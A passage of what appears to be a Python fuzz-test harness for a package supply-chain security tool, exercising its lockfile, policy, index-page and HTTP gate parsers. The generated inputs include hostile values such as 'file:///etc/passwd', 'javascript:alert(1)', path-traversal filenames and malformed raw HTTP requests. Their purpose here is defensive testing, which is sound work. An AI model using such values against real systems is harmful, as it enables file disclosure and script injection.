            "-r https://example.com/r.txt",
            "-r /nonexistent/r.txt",
            "-e .",
            "--editable=git+https://g.example/r#egg=r",
            "-f ./wheels",
            "--no-index",
            "--hash=md5:abc",
            "--unknown-option",
            "pkg==1.0 --hash=sha256:" + _DIGEST,
            "pkg==2.0",
            "pkg>=1,<3",
            "pkg===weird",
            "pkg @ file:///tmp/x.whl",
            "pkg @ https://[::1/x.whl",
            "pkg ; os_name == 'nt' and",
            "\\",
            "-i",
            "${HOME}/x.whl",
        ]
    ),
    st.text(max_size=40),
)


@st.composite
def lock_cases(draw: st.DrawFn) -> tuple[str, str, str]:
    name = draw(st.sampled_from(sorted(LOCK_SEEDS)))
    if name == "requirements.txt" and draw(st.booleans()):
        text = "\n".join(draw(st.lists(REQUIREMENT_LINES, max_size=10)))
    else:
        text = draw(mutated_text(st.sampled_from(LOCK_SEEDS[name]), max_edits=6) | st.sampled_from(LOCK_SEEDS[name]))
    include = "\n".join(draw(st.lists(REQUIREMENT_LINES, max_size=5)))
    written_as = draw(st.sampled_from([name, name, "lock.unknown"]))
    return written_as, text, include


def check_lockfile(case: tuple[str, str, str]) -> None:
    written_as, text, include = case
    with tempfile.TemporaryDirectory() as directory, guarded():
        root = Path(directory)
        (root / written_as).write_text(text, encoding="utf-8", errors="surrogatepass")
        for included in ("other.txt", "constraints.txt"):
            (root / included).write_text(include, encoding="utf-8", errors="surrogatepass")
        try:
            lock = read_lockfile(root / written_as)
        except LockfileError as exc:
            one_line(str(exc))
            return
    for problem in lock.problems:
        one_line(problem.message)
    for package in lock.packages:
        assert package.name == package.name.lower()


_DIRECT_URLS = st.one_of(
    st.sampled_from(
        [
            '{"url": "https://f.example/x.whl", "archive_info": {"hashes": {"sha256": "' + _DIGEST + '"}}}',
            '{"url": "file:///src", "dir_info": {"editable": true}}',
            '{"url": "https://g.example/r", "vcs_info": {"vcs": "git", "commit_id": "abc"}}',
            '{"url": 3}',
            "[[[[",
            "{}",
        ]
    ),
    st.text(max_size=40),
)


@st.composite
def environment_cases(draw: st.DrawFn) -> list[dict[str, str]]:
    distributions = []
    for _ in range(draw(st.integers(0, 3))):
        files = {"METADATA": draw(header_text())}
        if draw(st.booleans()):
            files["INSTALLER"] = draw(st.sampled_from(["pip\n", "uv", ""]) | st.text(max_size=10))
        if draw(st.booleans()):
            files["direct_url.json"] = draw(_DIRECT_URLS)
        files[".dir"] = draw(
            st.sampled_from(["demo-1.0.dist-info", "x.dist-info", "y.egg-info"]) | st.text(max_size=12)
        )
        distributions.append(files)
    return distributions


def check_environment(distributions: list[dict[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as directory, guarded():
        venv = Path(directory) / "venv"
        (venv / "bin").mkdir(parents=True)
        (venv / "pyvenv.cfg").write_text("include-system-site-packages = false\n", encoding="utf-8")
        version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
        site = venv / "lib" / version / "site-packages"
        site.mkdir(parents=True)
        for number, files in enumerate(distributions):
            name = files[".dir"].replace("/", "_").replace("\x00", "_") or "_"
            target = site / f"{number}{name}"
            if not target.name.endswith((".dist-info", ".egg-info")):
                target = target.with_name(target.name + ".dist-info")
            try:
                target.mkdir()
            except OSError:
                continue  # a name the file system refuses (too long): no distribution there
            for file, text in files.items():
                if file != ".dir":
                    (target / file).write_text(text, encoding="utf-8", errors="surrogatepass")
        answer = environment_probe.probe(str(venv / "bin" / "python"))
        json.loads(json.dumps(answer))  # what the other interpreter prints must be JSON
        lock = environment_lockfile(venv / "bin" / "python", answer)
    for problem in lock.problems:
        one_line(problem.message)


# -- policy --------------------------------------------------------------------------------------------

POLICY_SEEDS = [
    'fail-on = "suspicious"\ncooldown = "3d"\n\n[cooldown-exceptions]\nurllib3 = "0"\nrequests = "1d12h"\n\n'
    '[[allow]]\npackage = "demo"\nversion = ">=1,<2"\nreason = "reviewed"\nexpires = 2030-01-01\n\n'
    '[[deny]]\npackage = "evil"\nreason = "known bad"\n\n'
    '[[ignore]]\nrule = "network-access"\npackage = "requests"\nreason = "it is an HTTP client"\n\n'
    '[provenance]\ndefault = "optional"\nrequired = ["sigstore"]\noptional = ["x"]\n',
    '[tool.interlock]\nfail-on = "malicious"\ncooldown = "1w"\n',
]
POLICY_VALUES = st.one_of(
    st.sampled_from(
        [
            '"3d"',
            '"0"',
            '"999999w999999w999999w999999w999999w999999w999999w999999w999999w999999w999999w999999w"',
            '"1.5d"',
            '"malicious"',
            '"network-access"',
            '"known-malicious"',
            '"==1.0"',
            '"1.0"',
            '">=bad"',
            "2030-13-40",
            "2030-01-01",
            '"2030-01-01"',
            "1979-05-27T07:32:00Z",
            "3",
            "-1",
            "1e400",
            "inf",
            "nan",
            "true",
            "[]",
            '["a", "b", "a"]',
            "{}",
            '{ package = "x", reason = "y" }',
            '[{ package = "x", reason = "y", version = "==1" }]',
            '[{ rule = "netwrk-access", reason = "" }]',
            '"' + "x" * 80 + '"',
        ]
    ),
    st.lists(st.from_regex(r"\A[0-9]{1,6}[wdhmWD]\Z"), min_size=1, max_size=200).map(
        lambda parts: f'"{"".join(parts)}"'
    ),
    st.text(max_size=20).map(json.dumps),
)
POLICY_KEYS = st.sampled_from(
    [
        "fail-on",
        "cooldown",
        "cooldown-exceptions",
        "allow",
        "deny",
        "ignore",
        "provenance",
        "package",
        "version",
        "reason",
        "expires",
        "rule",
        "default",
        "required",
        "optional",
        "fail_on",
        '"quoted key"',
        '"é"',
    ]
)


@st.composite
def policy_texts(draw: st.DrawFn) -> tuple[str, bytes]:
    name = draw(st.sampled_from(["interlock.toml", "pyproject.toml", "custom.toml"]))
    choice = draw(st.integers(0, 2))
    if choice == 0:
        lines = []
        for _ in range(draw(st.integers(0, 10))):
            if draw(st.integers(0, 3)) == 0:
                header = draw(st.sampled_from(["[{}]", "[[{}]]", "[tool.interlock.{}]", "[[tool.interlock.{}]]"]))
                lines.append(header.format(draw(POLICY_KEYS)))
            else:
                lines.append(f"{draw(POLICY_KEYS)} = {draw(POLICY_VALUES)}")
        prefix = "[tool.interlock]\n" if name == "pyproject.toml" and draw(st.booleans()) else ""
        text = prefix + "\n".join(lines)
        return name, text.encode("utf-8", errors="surrogatepass")
    if choice == 1:
        return name, draw(mutated(st.sampled_from([seed.encode() for seed in POLICY_SEEDS]), max_edits=6))
    return name, draw(st.binary(max_size=128))


def check_policy(case: tuple[str, bytes]) -> None:
    name, data = case
    with tempfile.TemporaryDirectory() as directory, guarded():
        path = Path(directory) / name
        path.write_bytes(data)
        try:
            load_policy(path)
        except PolicyError as exc:
            assert exc.problems
            for problem in exc.problems:
                one_line(str(problem))


# -- index pages ------------------------------------------------------------------------------------

PAGE_URL = "https://user:secret@index.example/simple/demo/"
_FILENAMES = st.one_of(
    st.sampled_from(
        [
            "demo-1.0-py3-none-any.whl",
            "demo-1.0.tar.gz",
            "demo-1.0.zip",
            "Demo_-1.0.0.tar.gz",
            "demo-1.0-1-py3-none-any.whl",
            "demo-1.0-x-py3-none-any.whl",
            "demo-not.a.version.tar.gz",
            "demo--1.0.tar.gz",
            "other-1.0.tar.gz",
            "demo-1.0.exe",
            "../demo-1.0.tar.gz",
        ]
    ),
    st.text(max_size=30),
)
_URLS = st.one_of(
    st.sampled_from(
        [
            "https://files.example/demo-1.0.tar.gz",
            "../../files/demo-1.0-py3-none-any.whl#sha256=" + _DIGEST,
            "http://[::1/x",
            "http://[",
            "https://h:99999999/x",
            "file:///etc/passwd",
            "//other.example/x",
            "javascript:alert(1)",
            "",
            "https://é.example/x",
        ]
    ),
    st.text(max_size=30),
)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=3),
    max_leaves=8,
)


@st.composite
def json_pages(draw: st.DrawFn) -> bytes:
    files = []
    for _ in range(draw(st.integers(0, 5))):
        entry: dict[str, Any] = {"filename": draw(_FILENAMES), "url": draw(_URLS)}
        for key in (
            "hashes",
            "yanked",
            "core-metadata",
            "dist-info-metadata",
            "size",
            "upload-time",
            "requires-python",
        ):
            if draw(st.booleans()):
                entry[key] = draw(JSON_VALUES | st.just({"sha256": _DIGEST}) | st.just(True))
        if draw(st.booleans()):
            entry["provenance"] = draw(_URLS | JSON_VALUES)
        if draw(st.integers(0, 10)) == 0:
            entry = draw(JSON_VALUES)
        files.append(entry)
    page: Any = {"meta": {"api-version": draw(st.sampled_from(["1.0", "1.1", "2.0", "", "1"]) | JSON_VALUES)}}
    page["files"] = files
    if draw(st.integers(0, 10)) == 0:
        page = draw(JSON_VALUES)
    return json.dumps(page).encode()


@st.composite
def html_pages(draw: st.DrawFn) -> bytes:
    parts = []
    if draw(st.booleans()):
        parts.append(f'<base href="{draw(_URLS)}">')
    for _ in range(draw(st.integers(0, 5))):
        attributes = f' href="{draw(_URLS)}"' if draw(st.integers(0, 4)) else ""
        for name in ("data-yanked", "data-requires-python", "data-core-metadata", "data-provenance"):
            if draw(st.booleans()):
                attributes += f' {name}="{draw(st.text(max_size=12) | _URLS)}"'
            elif draw(st.integers(0, 4)) == 0:
                attributes += f" {name}"
        parts.append(f"<a{attributes}>{draw(_FILENAMES)}</a>")
    text = (
        "<html><body>" + "\n".join(parts) + draw(st.sampled_from(["</body></html>", "", "<a", "<!--", "&#xffffffff;"]))
    )
    return text.encode("utf-8", errors="surrogatepass")


PAGE_CASES = st.tuples(
    st.one_of(
        json_pages(),
        html_pages(),
        mutated(json_pages() | html_pages(), max_edits=4),
        st.binary(max_size=256),
        st.integers(1, 5000).map(lambda depth: b'{"files": ' + b"[" * depth),
        st.integers(1, 50).map(lambda digits: b'{"files": [], "x": 1' + b"9" * (digits * 200) + b"}"),
    ),
    st.sampled_from([JSON_TYPE, "text/html", "", "application/json; charset=utf-8", "text/plain"]),
)


def check_page(case: tuple[bytes, str]) -> None:
    body, content_type = case
    with guarded():
        try:
            files = parse_page(body, content_type, PAGE_URL, "demo")
        except BadIndexResponse as exc:
            one_line(str(exc))
            assert "secret" not in str(exc), "a credential in the page URL was shown"
            return
        for file in files:
            assert file.project == "demo" and "#" not in file.url
        if body.lstrip()[:1] == b"{":
            try:
                page = read_json_page(body, PAGE_URL, "demo")
            except BadIndexResponse:
                return
            kept = kept_json_page(page.to_bytes(), PAGE_URL, "demo")
            assert kept.all_files() == page.all_files(), "a kept page reads back differently"
            for version in page.versions():
                assert kept.files(version) == page.files(version)
            page.release_versions()


def check_kept_page(data: bytes) -> None:
    with guarded():
        try:
            page = kept_json_page(data, PAGE_URL, "demo")
        except ValueError as exc:
            one_line(str(exc))
            return
        for version in page.versions():
            try:
                page.files(version)
            except BadIndexResponse as exc:
                one_line(str(exc))


def _packed_page(body: bytes) -> bytes:
    try:
        return read_json_page(body, PAGE_URL, "demo").to_bytes()
    except (BadIndexResponse, ValueError):
        return b""


KEPT_PAGE_CASES = st.one_of(mutated(json_pages().map(_packed_page), max_edits=4), st.binary(max_size=128))


# -- the gate's HTTP handling -----------------------------------------------------------------------

_ACCEPTS = st.sampled_from([JSON_TYPE, "text/html", "*/*", "", JSON_TYPE + ";q=0", "\u00e9"]) | st.text(
    string.printable, max_size=20
)
_RANGES = st.sampled_from(["bytes=0-9", "bytes=-5", "bytes=5-", "bytes=9-0", "bytes=0-0,2-3", "bytes=x", "lines=1-2"])
GATE_REQUEST = st.tuples(
    st.sampled_from(["GET", "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS"]),
    st.sampled_from(["fuzzed page", "any page", "download", "any file", "any path"]),
    st.text(max_size=30),
    st.text(max_size=20),
    st.fixed_dictionaries({}, optional={"accept": _ACCEPTS, "range": _RANGES | st.text(string.printable, max_size=20)}),
)
RAW_REQUESTS = [
    b"GET /simple/acme-clock/ HTTP/1.1\r\nHost: x\r\nAccept: " + JSON_TYPE.encode() + b"\r\n\r\n",
    b"GET /files/x/y HTTP/1.0\r\n\r\n",
    b"POST /simple/acme-clock/ HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello",
    b"GET /simple/%ff%00/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
]
GATE_CASES = st.tuples(
    PAGE_CASES,
    st.sampled_from([200, 200, 200, 404, 410, 500, 302, 204]),
    st.lists(GATE_REQUEST, min_size=1, max_size=4),
    st.none() | mutated(st.sampled_from(RAW_REQUESTS), max_edits=4) | st.binary(max_size=64),
)


@dataclass
class GateSession:
    index: Any
    judge: Any
    client: Any
    base_url: str
    listed: list[tuple[str, bytes]]
    """(gate URL, bytes) of the genuine project's files, as its page lists them."""
    projects: int = 0

    def check(self, case: tuple[tuple[bytes, str], int, list[tuple[Any, ...]], bytes | None]) -> None:
        from urllib.parse import quote

        import httpx

        from tests.fake_index import Reply

        (body, content_type), status, requests, raw = case
        self.projects += 1
        project = f"fuzz-{self.projects}"  # a fresh name: the gate remembers a failed page for good
        self.index.route(f"/simple/{project}/", Reply(body.replace(b"demo", project.encode()), status, content_type))
        before = len(self.judge.problems)
        with guarded(memory=False):
            for method, kind, first, second, headers in requests:
                if kind == "fuzzed page":
                    path = f"/simple/{project}/"
                elif kind == "any page":
                    path = f"/simple/{quote(first, safe='')}/"
                elif kind == "download":
                    path = self.listed[len(first) % len(self.listed)][0]
                elif kind == "any file":
                    path = f"/files/{quote(first, safe='')}/{quote(second, safe='')}"
                else:
                    path = "/" + quote(first, safe="/?=&")
                try:
                    response = self.client.request(method, path, headers=headers)
                except (httpx.InvalidURL, httpx.LocalProtocolError, UnicodeEncodeError):
                    continue  # a request httpx refuses to send never reached the gate
                problems = self.judge.problems[before:]
                assert response.status_code != 500, f"{method} {path}: 500 ({problems[:1]})"
                assert not any("the gate failed" in problem for problem in problems), problems
                self._check_answer(method, kind, path, response)
            if raw is not None:
                self._send_raw(raw)
        # Whatever came before, the gate still answers.
        assert self.client.get(self.listed[0][0].rsplit("/", 2)[0] + "/x/y").status_code == 404

    def _check_answer(self, method: str, kind: str, path: str, response: Any) -> None:
        if response.status_code == 200 and path.startswith("/simple/") and method == "GET":
            if response.headers.get("content-type") == JSON_TYPE:
                page = response.json()
                assert all(entry["url"].startswith("/files/") for entry in page["files"]), page
            else:
                import re

                hrefs = re.findall(r'href="([^"]*)"', response.text)
                assert all(href.startswith("/files/") for href in hrefs), hrefs
        if kind == "download" and method == "GET" and response.status_code == 200:
            assert any(response.content == data for _, data in self.listed)

    def _send_raw(self, raw: bytes) -> None:
        import socket
        from urllib.parse import urlsplit

        parts = urlsplit(self.base_url)
        with socket.create_connection((parts.hostname, parts.port), timeout=5) as connection:
            try:
                connection.sendall(raw)
                connection.shutdown(socket.SHUT_WR)
                answer = connection.recv(65536)
            except OSError:
                return  # the server hung up on nonsense: an answer too
        assert not answer.startswith(b"HTTP/1.1 500"), answer[:200]


@contextlib.contextmanager
def gate_session() -> Iterator[Callable[[Any], None]]:
    """The gate served on loopback in front of a fake index (tests/fake_index.py) that serves one genuine
    and one trojaned release, plus a fuzzed page per example."""
    import httpx

    from interlock.gate.app import gate_app
    from interlock.gate.judge import Judge
    from interlock.gate.server import serve
    from interlock.index.client import IndexClient
    from interlock.scanner import Scanner, ScanOptions
    from tests.fake_index import FakeIndex
    from tests.gate_packages import projects

    index = FakeIndex()
    index.thread.start()
    clock = projects()["acme-clock"]
    index.json_project("acme-clock", clock)
    try:
        with tempfile.TemporaryDirectory() as cache:
            judge = Judge(Scanner(ScanOptions(index_url=index.simple, use_cache=False)))
            upstream = IndexClient(index.simple, timeout=5, cache_dir=Path(cache), retries=0, backoff=0.01)
            with serve(gate_app(upstream, judge)) as url, httpx.Client(base_url=url, timeout=60) as client:
                page = client.get("/simple/acme-clock/", headers={"Accept": JSON_TYPE}).json()
                listed = [(entry["url"], clock[entry["filename"]]) for entry in page["files"]]
                yield GateSession(index, judge, client, url, listed).check
    finally:
        index.server.shutdown()
        index.server.server_close()


# -- registry --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    name: str
    strategy: Callable[[bool], st.SearchStrategy[Any]]
    """The inputs; called with `long=True` for bench runs (slower generators such as hypothesmith's from_node)."""
    check: Callable[[Any], None] | None = None
    session: Callable[[], contextlib.AbstractContextManager[Callable[[Any], None]]] | None = None
    """For targets that need a server: yields the check, valid while the block lasts."""

    @contextlib.contextmanager
    def checker(self) -> Iterator[Callable[[Any], None]]:
        if self.session is not None:
            with self.session() as check:
                yield check
        else:
            assert self.check is not None
            yield self.check


TARGETS: list[Target] = [
    Target("archive reader", lambda long: ARCHIVE_CASES, check_archive),
    Target(".pth lines", lambda long: pth_texts(), check_pth),
    Target("Python source", lambda long: python_cases(grammar=True, node=long), check_python),
    Target("release metadata", lambda long: metadata_files(), check_metadata),
    Target("pickles", lambda long: PICKLE_CASES, check_pickle),
    Target("lockfiles", lambda long: lock_cases(), check_lockfile),
    Target("installed environment", lambda long: environment_cases(), check_environment),
    Target("policy", lambda long: policy_texts(), check_policy),
    Target("index pages", lambda long: PAGE_CASES, check_page),
    Target("kept index pages", lambda long: KEPT_PAGE_CASES, check_kept_page),
    Target("gate HTTP", lambda long: GATE_CASES, session=gate_session),
]
TARGETS_BY_NAME = {target.name: target for target in TARGETS}
